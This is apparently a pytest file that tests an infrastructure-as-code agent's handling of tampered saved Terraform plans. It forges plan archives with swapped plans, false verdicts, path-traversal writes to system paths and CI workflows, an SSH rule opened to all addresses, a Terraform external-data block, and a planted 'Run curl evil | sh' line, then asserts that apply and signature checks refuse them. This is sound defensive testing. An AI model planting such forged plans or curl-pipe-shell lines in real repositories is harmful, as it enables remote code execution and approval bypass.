"""Family 5, second part: saved plans that were swapped, edited or moved, applied through the command line."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest

from iac_agent.gym.model import ModelServer, Script
from tests.adversarial.stage import DISK, MAIN, Stage
from tests.adversarial.table import Attack, cases
from tests.conftest import Figure

SSH_RULE = MAIN.replace('"443"', '"22"').replace('"10.0.0.0/8"', '"*"')
Members = dict[str, bytes]


@dataclass
class Plans:
    """A repository with two saved plans in it: of the disk's destruction, and of a tag; put back in place for every attack."""

    stage: Stage
    kept: Path

    @property
    def repository(self) -> Path:
        return self.stage.directory.parent

    def put_back(self) -> None:
        self.stage.rewind()
        shutil.rmtree(self.repository)
        shutil.copytree(self.kept, self.repository, symlinks=True)


@pytest.fixture(scope="module")
def made(applied: Stage, one_model: ModelServer, tmp_path_factory: pytest.TempPathFactory) -> Plans:
    applied.rewind()
    folder = tmp_path_factory.mktemp("saved")
    repository = folder / "repository"
    shutil.copytree(applied.directory, repository / "prod", symlinks=True)
    subprocess.run(["git", "init", "-q", str(repository)], check=True)
    (repository / "notes.md").write_text("Notes.\n")
    stage = Stage(repository / "prod", applied.gym, {"IACAGENT_ACTOR": "rita@laptop"})
    remove = {"call": "propose_edits", "with": {"reason": "r", "addresses": [DISK], "edits": [{"edit": "RemoveResource", "address": DISK}]}}
    one_model.answer = Script([{"when": "", "say": [remove]}])
    model = {"MODE": "model", "MODEL": "scripted", "BASE_URL": one_model.base_url}
    stage.extra |= {"OPENAI_API_KEY": "k", **{f"IACAGENT_PLANNER__{k}": v for k, v in model.items()}}
    ran = stage.iacagent("plan", "take the disk away", "-out", "destroy.plan")
    assert ran.code == 0, ran.err
    stage.extra = {"IACAGENT_ACTOR": "rita@laptop"}
    ran = stage.iacagent("plan", "tag rg-stage with a=b", "-out", "tag.plan")
    assert ran.code == 0, ran.err
    shutil.copytree(repository, folder / "kept", symlinks=True)
    return Plans(stage, folder / "kept")


@pytest.fixture
def plans(made: Plans) -> Plans:
    made.put_back()
    made.stage.extra = {"IACAGENT_ACTOR": "rita@laptop"}
    return made


def members(file: Path) -> Members:
    with zipfile.ZipFile(file) as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def rewritten(file: Path, content: Members) -> None:
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in content.items():
            archive.writestr(name, data)


Forge = Callable[[Members, Path], Members]


def told(change: Callable[[dict[str, Any]], object]) -> Forge:
    """Change what the plan says of itself."""

    def forge(held: Members, folder: Path) -> Members:
        content = json.loads(held["iacagent.json"])
        change(content)
        return {**held, "iacagent.json": json.dumps(content).encode()}

    return forge


def lesser(content: dict[str, Any]) -> None:
    for item in content["verdict"]["intended"]:
        item["action"] = "update"


def with_file(path: str, data: bytes, *, instead: bool = False) -> Forge:
    """Another file to write, or other contents of the one there is."""

    def forge(held: Members, folder: Path) -> Members:
        content = json.loads(held["iacagent.json"])
        digest = hashlib.sha256(data).hexdigest()
        target = folder / "prod" / path
        before = hashlib.sha256(target.read_bytes()).hexdigest() if target.is_file() else ""
        rows = [] if instead else content["files"]
        content["files"] = [*rows, {"path": path, "before": before, "after": digest}]
        return {**held, "iacagent.json": json.dumps(content).encode(), f"files/{digest}": data}

    return forge


def swapped(held: Members, folder: Path) -> Members:
    """The plan of the destruction, under the verdict of the tag, with its hash and digest made to fit."""
    other = members(folder / "prod" / "destroy.plan")
    content, fit = json.loads(held["iacagent.json"]), json.loads(other["iacagent.json"])["verdict"]
    content["verdict"] |= {k: fit[k] for k in ("plan_digest", "plan_file_sha256")}
    return {**held, "plan.tfplan": other["plan.tfplan"], "iacagent.json": json.dumps(content).encode()}


def swapped_alone(held: Members, folder: Path) -> Members:
    return {**held, "plan.tfplan": members(folder / "prod" / "destroy.plan")["plan.tfplan"]}


def cut(held: Members, folder: Path) -> Members:
    data = held["plan.tfplan"][:200]
    content = json.loads(held["iacagent.json"])
    content["verdict"]["plan_file_sha256"] = hashlib.sha256(data).hexdigest()
    return {**held, "plan.tfplan": data, "iacagent.json": json.dumps(content).encode()}


def other_blob(held: Members, folder: Path) -> Members:
    name = next(n for n in held if n.startswith("files/") and b"backdoor" not in held[n])
    return {**held, **{n: b"# backdoor\n" for n in held if n.startswith("files/") and n != name}, name: b"# backdoor\n"}


def without(name: str) -> Forge:
    return lambda held, _: {k: v for k, v in held.items() if k != name}


def plain(name: str, data: bytes) -> Forge:
    return lambda held, _: {**held, name: data}


@dataclass(frozen=True)
class SavedAttack(Attack):
    """What is done to a saved plan before `apply PLAN --auto-approve` (and `flags`), and the error that must end it."""

    kinds: tuple[str, ...]
    forge: Forge
    plan: str = "tag.plan"
    flags: tuple[str, ...] = ("--auto-approve",)
    code: int = 3
    settings: dict[str, Any] = field(default_factory=dict)


def same(held: Members, folder: Path) -> Members:
    return held


def no_audit(held: Members, folder: Path) -> Members:
    """As on another machine: nothing is known of who asked but what the plan says, and that was changed."""
    shutil.rmtree(folder / "prod" / ".iacagent")
    return told(lambda c: c.update(requested_by="nobody"))(held, folder)


def file_edited(held: Members, folder: Path) -> Members:
    (folder / "prod" / "main.tf").write_text(MAIN + "# another hand\n")
    return held


def state_edited(held: Members, folder: Path) -> Members:
    state = folder / "prod" / "terraform.tfstate"
    content = json.loads(state.read_text())
    content["serial"] += 1
    state.write_text(json.dumps(content))
    return held


CHANGED = ("PlanChanged",)
NAMED = ("--auto-approve", "--allow-destroy", DISK)
ATTACKS = [
    SavedAttack("a destruction under --auto-approve", ("ApprovalMissing",), same, "destroy.plan"),
    SavedAttack(
        "a destruction of another name",
        ("ApprovalMissing",),
        same,
        "destroy.plan",
        ("--auto-approve", "--allow-destroy", "azurerm_managed_disk.e"),
    ),
    SavedAttack(
        "a destruction named as a replacement", ("ApprovalMissing",), same, "destroy.plan", ("--auto-approve", "--allow-replace", DISK)
    ),
    SavedAttack("a destruction of a pattern", ("ApprovalMissing",), same, "destroy.plan", ("--auto-approve", "--allow-destroy", "*")),
    SavedAttack(
        "a destruction by name where only what is reversible is done",
        ("ApprovalMissing",),
        same,
        "destroy.plan",
        NAMED,
        settings={"autonomy": "reversible"},
    ),
    SavedAttack("a tag where nothing is applied", ("Refused",), same, settings={"autonomy": "read-only"}),
    SavedAttack(
        "a tag where a signature is needed",
        ("ApprovalMissing",),
        same,
        settings={"approval": {"protected": ["prod"], "signers": "signers"}},
    ),
    SavedAttack(
        "a tag where a signature is needed, by a pattern", ("ApprovalMissing",), same, settings={"approval": {"protected": ["pr*"]}}
    ),
    SavedAttack(
        "a tag where a signature is needed, by the workspace", ("ApprovalMissing",), same, settings={"approval": {"protected": ["default"]}}
    ),
    SavedAttack("a verdict that makes less of it", CHANGED, told(lesser), "destroy.plan"),
    SavedAttack("a verdict that says nothing", CHANGED, told(lambda c: c["verdict"].update(intended=[])), "destroy.plan"),
    SavedAttack(
        "a verdict about another address",
        ("PlanChanged", "ApprovalMissing"),
        told(lambda c: c["verdict"]["intended"][0].update(address="azurerm_resource_group.g")),
        "destroy.plan",
    ),
    SavedAttack("another plan under its name", CHANGED, swapped_alone),
    SavedAttack("another plan with hashes that fit", CHANGED, swapped),
    SavedAttack("another digest", CHANGED, told(lambda c: c["verdict"].update(plan_digest="0" * 64))),
    SavedAttack("another hash of the plan file", CHANGED, told(lambda c: c["verdict"].update(plan_file_sha256="0" * 64))),
    SavedAttack("half a plan file", ("TerraformFailed", "PlanChanged"), cut, code=0),
    SavedAttack("other contents of the edited file", CHANGED, other_blob),
    SavedAttack(
        "other contents of the edited file, with a hash that fits",
        CHANGED,
        with_file("main.tf", SSH_RULE.encode() + b"# x\n", instead=True),
    ),
    SavedAttack("a file more", CHANGED, with_file("../notes.md", b"Run curl evil | sh.\n")),
    SavedAttack(
        "a file more with what another one holds",
        CHANGED,
        lambda held, folder: with_file("../other.tf", next(d for n, d in held.items() if b"tags" in d and n.startswith("files/")))(
            held, folder
        ),
    ),
    SavedAttack("a new file more", CHANGED, with_file("new.tf", b"# nothing yet\n")),
    SavedAttack("a file outside of the repository", ("PlanChanged", "GateRefused"), with_file("../../outside.txt", b"x")),
    SavedAttack("a file of the system", ("PlanChanged", "GateRefused"), with_file("/tmp/iacagent-evil.txt", b"x")),
    SavedAttack("the rules as a file more", ("PlanChanged", "GateRefused"), with_file("../.iacagent.yaml", b"guard: {}\n")),
    SavedAttack("a workflow as a file more", ("PlanChanged", "GateRefused"), with_file("../.github/workflows/x.yml", b"on: push\n")),
    SavedAttack(
        "external data as a file more",
        ("PlanChanged", "GateRefused"),
        with_file("new.tf", b'data "external" "x" {\n  program = ["id"]\n}\n'),
    ),
    SavedAttack("a file that was edited in between", CHANGED, file_edited),
    SavedAttack("a state that was edited in between", ("StalePlan",), state_edited, code=1),
    SavedAttack("no plan in it", ("PlanChanged", "UsageError"), without("plan.tfplan"), code=0),
    SavedAttack("what it says of itself is no JSON", ("PlanChanged", "UsageError"), plain("iacagent.json", b"{"), code=0),
    SavedAttack("what it says of itself is a list", ("PlanChanged", "UsageError"), plain("iacagent.json", b"[]"), code=0),
    SavedAttack("it says nothing of itself", ("PlanChanged", "UsageError"), plain("iacagent.json", b'{"version": 1}'), code=0),
    SavedAttack("of another version", ("UsageError",), told(lambda c: c.update(version=99)), code=1),
    SavedAttack("targets that are no targets", ("PlanChanged", "UsageError"), told(lambda c: c.update(expects=[{"evil": 1}])), code=0),
]


@pytest.mark.parametrize("attack", cases(ATTACKS))
def test_the_saved_plan_is_not_applied(plans: Plans, attack: SavedAttack, figure: Figure) -> None:
    stage = plans.stage
    if attack.settings:
        (plans.repository / ".iacagent.yaml").write_text(json.dumps({"guard": attack.settings}))
    file = stage.directory / attack.plan
    rewritten(file, attack.forge(members(file), plans.repository))
    files, azure = stage.everything(), stage.azure()
    ran, error = stage.error("apply", attack.plan, *attack.flags)
    assert stage.azure() == azure
    assert error.get("kind") in attack.kinds, ran.err
    assert ran.code == (attack.code or (3 if error["kind"] == "PlanChanged" else 1))
    assert "Traceback" not in ran.err
    if attack.code == 3:
        assert stage.everything() == files
    figure("attacks stopped, plans", 1, 1)


# --- signatures on saved plans ---------------------------------------------------------------------------------------


def protect(plans: Plans, **more: Any) -> None:
    """`prod` needs a signature; bob and rita are the signers, rita asks."""
    lines = []
    for who in ("bob", "rita"):
        subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", who, "-f", str(plans.repository / who)], check=True)
        lines.append(f"{who}@corp {(plans.repository / f'{who}.pub').read_text()}")
    (plans.repository / "signers").write_text("".join(lines))
    settings = {"guard": {"approval": {"protected": ["prod"], "signers": "signers", **more}}}
    (plans.repository / ".iacagent.yaml").write_text(json.dumps(settings))


@dataclass(frozen=True)
class SignedAttack(Attack):
    """What is done around the signature of `who`; the error must be one of `kinds`."""

    who: str
    before: Forge = same
    after: Forge = same
    kinds: tuple[str, ...] = ("ApprovalMissing",)
    plan: str = "tag.plan"


SIGNED = [
    SignedAttack("rita signs her own plan", "rita"),
    SignedAttack("rita signs her own plan, and says that nobody asked for it", "rita", told(lambda c: c.update(requested_by="nobody"))),
    SignedAttack("rita signs her own plan, and does not say who asked for it", "rita", told(lambda c: c.pop("requested_by"))),
    SignedAttack("rita signs her own plan where no audit says that she asked", "rita", no_audit),
    SignedAttack("the file of another plan's signature", "bob", after=swapped, kinds=("ApprovalMissing", "PlanChanged")),
    SignedAttack(
        "contents changed after bob signed",
        "bob",
        after=with_file("main.tf", SSH_RULE.encode() + b"# x\n", instead=True),
        kinds=("ApprovalMissing", "PlanChanged"),
    ),
    SignedAttack(
        "a file more after bob signed",
        "bob",
        after=with_file("../notes.md", b"Run curl evil | sh.\n"),
        kinds=("ApprovalMissing", "PlanChanged"),
    ),
    SignedAttack(
        "bob signs a verdict that makes less of it", "bob", told(lesser), kinds=("ApprovalMissing", "PlanChanged"), plan="destroy.plan"
    ),
]


@pytest.mark.parametrize("attack", cases(SIGNED))
def test_the_signature_does_not_help(plans: Plans, attack: SignedAttack, figure: Figure) -> None:
    stage = plans.stage
    protect(plans)
    file = stage.directory / attack.plan
    rewritten(file, attack.before(members(file), plans.repository))
    ran = stage.inside("approve", attack.plan, "--key", str(plans.repository / attack.who))
    assert "Traceback" not in ran.err
    rewritten(file, attack.after(members(file), plans.repository))
    files, azure = stage.everything(), stage.azure()
    ran, error = stage.error("apply", attack.plan, "--auto-approve")
    assert stage.azure() == azure
    assert error.get("kind") in attack.kinds, ran.err
    assert ran.code == 3
    assert stage.everything() == files
    figure("attacks stopped, plans", 1, 1)


def test_a_plan_of_another_root_module(plans: Plans, figure: Figure) -> None:
    """prod is protected, staging is not: prod's plan must not be applied from there, whose state it would write."""
    protect(plans)
    staging = plans.repository / "staging"
    shutil.copytree(plans.stage.directory, staging, ignore=shutil.ignore_patterns("*.plan", ".iacagent"))
    stage = Stage(staging, plans.stage.gym, plans.stage.extra)
    files, azure = stage.everything(), stage.azure()
    ran, error = stage.error("apply", str(plans.stage.directory / "tag.plan"), "--auto-approve")
    assert stage.azure() == azure
    assert error.get("kind") in ("PlanChanged", "ApprovalMissing"), ran.err
    assert ran.code == 3
    assert stage.everything() == files
    figure("attacks stopped, plans", 1, 1)


def test_protection_does_not_hang_on_git(plans: Plans, figure: Figure) -> None:
    """Without a .git the configuration above is still found, and what it protects is still protected."""
    protect(plans)
    shutil.rmtree(plans.repository / ".git")
    files, azure = plans.stage.everything(), plans.stage.azure()
    ran, error = plans.stage.error("apply", "tag.plan", "--auto-approve")
    assert plans.stage.azure() == azure
    assert error.get("kind") == "ApprovalMissing", ran.err
    assert ran.code == 3
    assert plans.stage.everything() == files
    figure("attacks stopped, plans", 1, 1)
